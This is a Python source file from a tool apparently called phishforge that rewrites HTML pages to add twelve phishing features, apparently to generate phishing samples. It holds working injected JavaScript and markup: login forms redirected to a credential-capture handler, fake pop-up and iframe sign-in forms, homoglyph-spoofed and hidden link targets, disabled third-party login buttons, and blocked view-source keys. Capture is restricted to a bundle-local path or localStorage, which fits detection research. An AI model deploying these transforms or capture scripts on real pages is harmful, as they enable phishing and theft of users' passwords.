"""Content-based transformations C1-C12 as in-place tree rewrites.

Every helper returns a FeatureApplication ledger entry recording the nodes
it touched and the nodes it injected. All credential capture is
bundle-local by design: forms post to a relative sink inside the bundle,
and the injected handler falls back to browser localStorage when the page
is opened as a static file. Nothing is ever forwarded off-host.
"""
from __future__ import annotations

import json
import random
import re
from dataclasses import dataclass, field
from importlib import resources

from . import applicability as app
from . import catalog
from .dom import DocumentTree, Element, Text

DUMMY_KINDS = ("img", "link", "script", "a", "div")
_TINY_GIF = (
    "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///"
    "yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
)
_INTERNAL_WS = re.compile(r"\s+")


class FeatureError(ValueError):
    pass


class NotApplicableError(FeatureError):
    pass


@dataclass(frozen=True)
class CaptureConfig:
    """Where injected login forms send their fields. local_file is the only
    mode: submissions land in a file under the bundle sandbox (served mode)
    or in localStorage (static mode)."""

    mode: str = "local_file"
    capture_path: str = "capture"
    capture_script_name: str = "capture.js"
    login_page_name: str = "login.html"

    def __post_init__(self) -> None:
        if self.mode != "local_file":
            raise FeatureError("only local_file capture is supported")
        for value in (self.capture_path, self.capture_script_name, self.login_page_name):
            if not value or value.startswith(("/", "http:", "https:")) or ".." in value:
                raise FeatureError("capture paths must be bundle-relative")


@dataclass
class FeatureApplication:
    feature: str
    params_used: dict = field(default_factory=dict)
    touched_nodes: list[int] = field(default_factory=list)
    injected_nodes: list[int] = field(default_factory=list)
    notes: str = ""

    def to_dict(self) -> dict:
        return {
            "feature": self.feature,
            "params_used": self.params_used,
            "touched_nodes": self.touched_nodes,
            "injected_nodes": self.injected_nodes,
            "notes": self.notes,
        }


def load_href_homoglyphs() -> dict[str, list[str]]:
    data = resources.files("phishforge.data").joinpath("href_homoglyphs.json")
    return json.loads(data.read_text(encoding="utf-8"))


def href_homoglyph_inverse() -> dict[str, str]:
    inverse: dict[str, str] = {}
    for letter, variants in load_href_homoglyphs().items():
        for v in variants:
            inverse[v] = letter
    return inverse


# -- injected script/markup payloads ---------------------------------------

KEYBLOCK_JS = """
document.addEventListener("keydown", function (ev) {
  var ctrl = ev.ctrlKey || ev.metaKey;
  if (ev.key === "F11" || (ctrl && (ev.key === "u" || ev.key === "U"))) {
    ev.preventDefault();
    ev.stopPropagation();
  }
}, true);
""".strip()

HIDDEN_NAV_JS = """
document.addEventListener("click", function (ev) {
  var el = ev.target;
  while (el && el.tagName !== "A") { el = el.parentElement; }
  if (el && el.hasAttribute("data-href")) {
    ev.preventDefault();
    window.location.href = el.getAttribute("data-href");
  }
}, true);
""".strip()

ANCHOR_SUPPRESS_JS = """
document.addEventListener("click", function (ev) {
  var el = ev.target;
  while (el && el.tagName !== "A") { el = el.parentElement; }
  if (el) { ev.preventDefault(); ev.stopPropagation(); }
}, true);
""".strip()

ANCHOR_SUPPRESS_CSS = "a { pointer-events: none; cursor: default; }"

DISABLED_BUTTON_JS = """
document.addEventListener("click", function (ev) {
  var el = ev.target;
  while (el) {
    if (el.hasAttribute && el.hasAttribute("data-login-disabled")) {
      ev.preventDefault();
      ev.stopPropagation();
      return;
    }
    el = el.parentElement;
  }
}, true);
""".strip()

_MODAL_OPEN_BY_ATTR_JS = """
(function () {
  var modal = document.getElementById("%(modal_id)s");
  if (!modal) { return; }
  document.addEventListener("click", function (ev) {
    var el = ev.target;
    while (el) {
      if (el.hasAttribute && el.getAttribute("data-opens-modal") === "%(modal_id)s") {
        ev.preventDefault();
        modal.style.display = "block";
        return;
      }
      el = el.parentElement;
    }
  }, true);
  modal.addEventListener("click", function (ev) {
    if (ev.target === modal) { modal.style.display = "none"; }
  });
})();
""".strip()

_MODAL_OPEN_BY_ANCHOR_JS = """
(function () {
  var modal = document.getElementById("%(modal_id)s");
  if (!modal) { return; }
  document.addEventListener("click", function (ev) {
    var el = ev.target;
    while (el && el.tagName !== "A") { el = el.parentElement; }
    if (el && !modal.contains(el)) {
      ev.preventDefault();
      modal.style.display = "block";
    }
  }, true);
  modal.addEventListener("click", function (ev) {
    if (ev.target === modal) { modal.style.display = "none"; }
  });
})();
""".strip()

CAPTURE_JS_TEMPLATE = """
(function () {
  var SINK = %(sink)s;
  function encode(form) {
    var pairs = [];
    for (var i = 0; i < form.elements.length; i++) {
      var el = form.elements[i];
      if (!el.name) { continue; }
      pairs.push(encodeURIComponent(el.name) + "=" + encodeURIComponent(el.value));
    }
    return pairs.join("&");
  }
  document.addEventListener("submit", function (ev) {
    var form = ev.target;
    if (!form.getAttribute || form.getAttribute("action") !== SINK) { return; }
    ev.preventDefault();
    var body = encode(form);
    if (location.protocol === "http:" || location.protocol === "https:") {
      fetch(SINK, {
        method: "POST",
        headers: {"Content-Type": "application/x-www-form-urlencoded"},
        body: body
      }).catch(function () {});
    } else {
      var key = "captured_submissions";
      var log = [];
      try { log = JSON.parse(localStorage.getItem(key) || "[]"); } catch (e) {}
      log.push(body);
      localStorage.setItem(key, JSON.stringify(log));
    }
    form.reset();
  }, true);
})();
""".strip()

LOGIN_PAGE_TEMPLATE = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Sign in</title>
<style>
body { font-family: inherit; margin: 0; padding: 16px; }
form { max-width: 280px; margin: 0 auto; display: flex; flex-direction: column; gap: 8px; }
input, button { padding: 8px; font-size: 14px; }
</style>
</head>
<body>
<form action="%(sink)s" method="post">
<input type="text" name="username" placeholder="Username" autocomplete="off">
<input type="password" name="password" placeholder="Password" autocomplete="off">
<button type="submit">Sign in</button>
</form>
<script src="%(script)s"></script>
</body>
</html>
"""


def capture_script(cfg: CaptureConfig) -> str:
    return CAPTURE_JS_TEMPLATE % {"sink": json.dumps(cfg.capture_path)}


def build_capture_assets(cfg: CaptureConfig) -> list[tuple[str, bytes]]:
    """The capture handler script plus the bundle-local login page used by
    the injected iframe. Everything is self-contained and bundle-relative."""
    login_page = LOGIN_PAGE_TEMPLATE % {
        "sink": cfg.capture_path,
        "script": cfg.capture_script_name,
    }
    return [
        (cfg.capture_script_name, capture_script(cfg).encode("utf-8")),
        (cfg.login_page_name, login_page.encode("utf-8")),
    ]


# -- shared injection helpers ----------------------------------------------


def _inject_script(tree: DocumentTree, text: str, parent: Element | None = None) -> Element:
    script = tree.new_element("script")
    script.append(tree.new_text("\n" + text + "\n"))
    (parent or tree.body).append(script)
    return script


def _inject_style(tree: DocumentTree, css: str) -> Element:
    style = tree.new_element("style")
    style.append(tree.new_text("\n" + css + "\n"))
    tree.head.append(style)
    return style


def _ensure_capture_script_ref(tree: DocumentTree, cfg: CaptureConfig) -> Element | None:
    """Reference the bundle capture handler once; returns the new element or
    None when a reference already exists."""
    for script in tree.elements("script"):
        if script.get("src") == cfg.capture_script_name:
            return None
    el = tree.new_element("script", {"src": cfg.capture_script_name})
    tree.body.append(el)
    return el


def _build_login_modal(tree: DocumentTree, modal_id: str, cfg: CaptureConfig) -> tuple[Element, list[int]]:
    overlay = tree.new_element(
        "div",
        {
            "id": modal_id,
            "style": (
                "display:none; position:fixed; inset:0; "
                "background:rgba(0,0,0,0.55); z-index:2147483000;"
            ),
        },
    )
    box = tree.new_element(
        "div",
        {
            "style": (
                "background:#fff; max-width:300px; margin:12vh auto 0; "
                "padding:20px; border-radius:6px; font-family:inherit;"
            )
        },
    )
    form = tree.new_element("form", {"action": cfg.capture_path, "method": "post"})
    user = tree.new_element(
        "input",
        {"type": "text", "name": "username", "placeholder": "Username",
         "style": "display:block; width:100%; margin:6px 0; padding:8px;"},
    )
    pwd = tree.new_element(
        "input",
        {"type": "password", "name": "password", "placeholder": "Password",
         "style": "display:block; width:100%; margin:6px 0; padding:8px;"},
    )
    submit = tree.new_element("button", {"type": "submit", "style": "width:100%; padding:8px;"})
    submit.append(tree.new_text("Sign in"))
    form.append(user)
    form.append(pwd)
    form.append(submit)
    box.append(form)
    overlay.append(box)
    tree.body.append(overlay)
    ids = [overlay.node_id, box.node_id, form.node_id, user.node_id, pwd.node_id, submit.node_id]
    return overlay, ids


# -- the transforms ----------------------------------------------------------


def _c1(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    targets = app.anchors_with_href(tree)
    if not targets:
        raise NotApplicableError("C1 needs anchors with href")
    for a in targets:
        a.attrs["href"] = rng.choice(catalog.C1_HREF_CHOICES)
    return FeatureApplication("C1", {}, [a.node_id for a in targets], [])


def _c2(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    script = _inject_script(tree, KEYBLOCK_JS)
    return FeatureApplication("C2", {}, [], [script.node_id])


def _c3(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    prob = float(params.get("prob", 0.3))
    if not 0.0 < prob <= 1.0:
        raise FeatureError("C3 prob must be in (0, 1]")
    table = load_href_homoglyphs()
    touched = []
    for a in app.anchors(tree):
        href = a.get("href")
        if not href:
            continue
        chars = list(href)
        eligible = [i for i, ch in enumerate(chars) if ch in table]
        if not eligible:
            continue
        changed = []
        for i in eligible:
            if rng.random() < prob:
                chars[i] = rng.choice(table[chars[i]])
                changed.append(i)
        if not changed:
            i = rng.choice(eligible)
            chars[i] = rng.choice(table[chars[i]])
        a.attrs["href"] = "".join(chars)
        touched.append(a.node_id)
    if not touched:
        raise NotApplicableError("C3 needs anchor hrefs containing a-z letters")
    return FeatureApplication("C3", {"prob": prob}, touched, [])


def _c4(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    targets = app.anchors_with_href(tree)
    if not targets:
        raise NotApplicableError("C4 needs anchors with href")
    for a in targets:
        a.attrs["data-href"] = a.attrs.get("href")
        a.attrs["href"] = "#"
    script = _inject_script(tree, HIDDEN_NAV_JS)
    return FeatureApplication("C4", {}, [a.node_id for a in targets], [script.node_id])


def _c5(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    targets = app.anchors(tree)
    if not targets:
        raise NotApplicableError("C5 needs anchors")
    style = _inject_style(tree, ANCHOR_SUPPRESS_CSS)
    script = _inject_script(tree, ANCHOR_SUPPRESS_JS)
    return FeatureApplication(
        "C5", {}, [a.node_id for a in targets], [style.node_id, script.node_id]
    )


def _c6(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    filler = str(params.get("filler", "·")) or "·"
    containers = app.text_containers_with_space(tree)
    if not containers:
        raise NotApplicableError("C6 needs h1/p/span text with internal whitespace")
    touched = []
    injected = []
    for el in containers:
        for child in list(el.children):
            if not isinstance(child, Text):
                continue
            data = child.data
            runs = [
                m for m in _INTERNAL_WS.finditer(data)
                if m.start() > 0 and m.end() < len(data)
            ]
            if not runs:
                continue
            fragments: list = []
            pos = 0
            for m in runs:
                if m.start() > pos:
                    fragments.append(tree.new_text(data[pos : m.start()]))
                span = tree.new_element("span", {"style": "color: transparent;"})
                span.append(tree.new_text(filler))
                fragments.append(span)
                injected.append(span.node_id)
                pos = m.end()
            if pos < len(data):
                fragments.append(tree.new_text(data[pos:]))
            el.replace_with_nodes(child, fragments)
        touched.append(el.node_id)
    return FeatureApplication("C6", {"filler": filler}, touched, injected)


def _rewrite_login_forms(tree: DocumentTree, cfg: CaptureConfig) -> list[int]:
    forms = app.login_forms(tree)
    for form in forms:
        form.attrs["action"] = cfg.capture_path
        form.attrs["method"] = "post"
    return [f.node_id for f in forms]


def _c7(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    touched = _rewrite_login_forms(tree, cfg)
    if not touched:
        raise NotApplicableError("C7 needs a form with a password input")
    injected = []
    ref = _ensure_capture_script_ref(tree, cfg)
    if ref is not None:
        injected.append(ref.node_id)
    return FeatureApplication("C7", {"capture_path": cfg.capture_path}, touched, injected)


def _c8(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    brands = tuple(params.get("brands", catalog.DEFAULT_LOGIN_BRANDS))
    buttons = app.provider_login_buttons(tree, brands)
    forms = app.login_forms(tree)
    if not buttons or not forms:
        raise NotApplicableError("C8 needs a login form plus third-party login buttons")
    touched = []
    for b in buttons:
        if b.tag in ("button", "input"):
            b.attrs["disabled"] = None
        b.attrs["data-login-disabled"] = "1"
        touched.append(b.node_id)
    touched.extend(_rewrite_login_forms(tree, cfg))
    injected = [_inject_script(tree, DISABLED_BUTTON_JS).node_id]
    ref = _ensure_capture_script_ref(tree, cfg)
    if ref is not None:
        injected.append(ref.node_id)
    return FeatureApplication(
        "C8", {"brands": list(brands)}, touched, injected,
        notes="provider buttons disabled; visible login form rewritten to the capture sink",
    )


def _popup_login(
    tree: DocumentTree,
    feature: str,
    openers: list[Element],
    wiring_js: str,
    modal_id: str,
    cfg: CaptureConfig,
) -> FeatureApplication:
    _, injected = _build_login_modal(tree, modal_id, cfg)
    for el in openers:
        el.attrs["data-opens-modal"] = modal_id
    injected.append(_inject_script(tree, wiring_js).node_id)
    ref = _ensure_capture_script_ref(tree, cfg)
    if ref is not None:
        injected.append(ref.node_id)
    return FeatureApplication(
        feature, {"modal_id": modal_id}, [el.node_id for el in openers], injected
    )


def _c9(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    if not app.login_forms(tree):
        raise NotApplicableError("C9 needs a form with a password input")
    modal_id = "pf-login-modal-c9"
    openers = app.login_opener_candidates(tree)
    return _popup_login(
        tree, "C9", openers, _MODAL_OPEN_BY_ATTR_JS % {"modal_id": modal_id}, modal_id, cfg
    )


def _c10(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    anchors = app.anchors(tree)
    if not anchors:
        raise NotApplicableError("C10 needs anchors")
    modal_id = "pf-login-modal-c10"
    application = _popup_login(
        tree, "C10", [], _MODAL_OPEN_BY_ANCHOR_JS % {"modal_id": modal_id}, modal_id, cfg
    )
    application.touched_nodes = [a.node_id for a in anchors]
    return application


def _c11(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    if not app.login_forms(tree):
        raise NotApplicableError("C11 needs a form with a password input")
    iframe = tree.new_element(
        "iframe",
        {
            "src": cfg.login_page_name,
            "style": "width:320px; height:220px; border:1px solid #ccc;",
        },
    )
    tree.body.append(iframe)
    return FeatureApplication(
        "C11", {"login_page": cfg.login_page_name}, [], [iframe.node_id]
    )


def _c12(tree: DocumentTree, params: dict, rng: random.Random, cfg: CaptureConfig) -> FeatureApplication:
    n = params.get("n")
    n = rng.randint(5, 25) if n is None else int(n)
    if n <= 0:
        raise FeatureError("C12 n must be positive")
    body = tree.body
    injected = []
    for _ in range(n):
        kind = rng.choice(DUMMY_KINDS)
        if kind == "img":
            el = tree.new_element("img", {"src": _TINY_GIF, "alt": "", "style": "display:none"})
        elif kind == "link":
            el = tree.new_element("link", {"rel": "alternate", "href": "#", "style": "display:none"})
        elif kind == "script":
            el = tree.new_element("script", {"style": "display:none"})
            el.append(tree.new_text(";"))
        elif kind == "a":
            el = tree.new_element("a", {"href": "#", "style": "display:none"})
        else:
            el = tree.new_element("div", {"style": "display:none"})
        body.insert(rng.randint(0, len(body.children)), el)
        injected.append(el.node_id)
    return FeatureApplication("C12", {"n": n}, [], injected)


_TRANSFORMS = {
    "C1": _c1, "C2": _c2, "C3": _c3, "C4": _c4, "C5": _c5, "C6": _c6,
    "C7": _c7, "C8": _c8, "C9": _c9, "C10": _c10, "C11": _c11, "C12": _c12,
}


def apply_content_feature(
    tree: DocumentTree,
    feature: str,
    params: dict | None,
    rng: random.Random,
    capture: CaptureConfig | None = None,
) -> tuple[DocumentTree, FeatureApplication]:
    """Apply one content feature in place. The feature must be applicable
    for the current tree; params override the catalog defaults."""
    if feature not in _TRANSFORMS:
        raise FeatureError(f"unknown content feature {feature!r}")
    application = _TRANSFORMS[feature](tree, params or {}, rng, capture or CaptureConfig())
    return tree, application


def needs_capture_assets(feature_ids: list[str]) -> bool:
    return any(fid in ("C7", "C8", "C9", "C10", "C11") for fid in feature_ids)
